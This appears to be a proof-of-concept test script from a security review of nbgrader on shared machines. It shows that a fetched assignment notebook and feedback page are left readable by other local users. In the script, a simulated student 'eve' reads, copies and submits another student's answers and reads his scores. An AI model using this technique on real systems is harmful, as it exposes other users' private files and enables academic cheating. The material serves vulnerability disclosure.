"""A01: round 48 made the student's nbgrader cache 0700 (it holds submission_secret.txt), because homes are readable
on machines like this one (useradd: UMASK 022, no HOME_MODE -> /home/bob49 is 0755). But nbgrader's fetch_assignment
and fetch_feedback write into the student's working folder with her umask too: the fetched notebook (which bob edits
into his answers) and his fetched feedback page (his code, outputs, every score). Eve (another local student) reads
both as herself. Bob works as students do: in his home (cwd = HOME = /home/bob49)."""
import os, subprocess, shutil, sys, glob, re
sys.path.insert(0, os.path.dirname(__file__))
from harness import nb_for, grade, scores, hand_in
from exch import setup, as_user, NB, PY
import nbformat
base, ta, root = setup("a01")
X = f"--Exchange.root={root}"
as_user(65534, [NB, "release_assignment", "ps1_memory", X, "--force"], ta)
for who, uid in (("bob49", 2492), ("eve49", 2491)):
    h = f"/home/{who}"
    shutil.rmtree(f"{h}/ps1_memory", ignore_errors=True); shutil.rmtree(f"{h}/.local", ignore_errors=True)
    as_user(uid, [NB, "fetch_assignment", "ps1_memory", X, "--course", "distcourse"], h)
# bob does the work in the fetched notebook (honest, full solution), and submits
p = "/home/bob49/ps1_memory/ps1_memory.ipynb"
nbformat.write(nb_for("ps1_memory"), p); os.chown(p, 2492, 2492)
as_user(2492, [NB, "submit", "ps1_memory", X, "--course", "distcourse"], "/home/bob49")
# eve, as herself: bob's answers in his working folder
steal = r'''
import json, sys, glob, os
for f in sorted(glob.glob("/home/*/ps1_memory/**", recursive=True)):
    if f.startswith("/home/eve49") or os.path.isdir(f): continue
    try:
        b = open(f, "rb").read()
    except OSError as e:
        print("eve cannot read", f, e.strerror); continue
    print("eve read", f, len(b), "bytes", "| has 'def training_memory' body:", b"optimizer.state" in b,
          "| quiz q1 answer:", [l.strip()[:40] for l in b.decode("utf-8", "replace").split("\\n") if l.strip().startswith('"q1 =')][:1])
'''
as_user(2491, [PY, "-c", steal], "/home/eve49")
# eve copies bob's answers into her own notebook and submits: points without the work
steal2 = r'''
import nbformat
bob = nbformat.read("/home/bob49/ps1_memory/ps1_memory.ipynb", 4)
nbformat.write(bob, "/home/eve49/ps1_memory/ps1_memory.ipynb")
print("eve copied bob's notebook into hers")
'''
as_user(2491, [PY, "-c", steal2], "/home/eve49")
as_user(2491, [NB, "submit", "ps1_memory", X, "--course", "distcourse"], "/home/eve49")
as_user(65534, [NB, "collect", "ps1_memory", X], ta)
# controls graded beside (handed in directly)
hand_in(ta, "aaron", "ps1_memory", nb_for("ps1_memory")); hand_in(ta, "zoe", "ps1_memory", nb_for("ps1_memory"))
grade(ta, "ps1_memory", quiet=True); scores(ta, "ps1_memory")
as_user(65534, [NB, "release_feedback", "ps1_memory", X], ta)
as_user(2492, [NB, "fetch_feedback", "ps1_memory", X, "--course", "distcourse"], "/home/bob49")
print(subprocess.run("ls -laR /home/bob49/ps1_memory | head -30; stat -c '%a %U %n' /home/bob49/.local/share/jupyter/nbgrader_cache /home/bob49/.local/share/jupyter/nbgrader_cache/*", shell=True, capture_output=True, text=True).stdout)
steal3 = r'''
import glob, re
for f in glob.glob("/home/bob49/ps1_memory/feedback/*/*.html"):
    t = open(f).read()
    print("eve read bob's feedback", f, len(t), "bytes;", re.findall(r"ps1_memory \(Score: [0-9.]+ / [0-9.]+\)", t)[:1])
'''
as_user(2491, [PY, "-c", steal3], "/home/eve49")
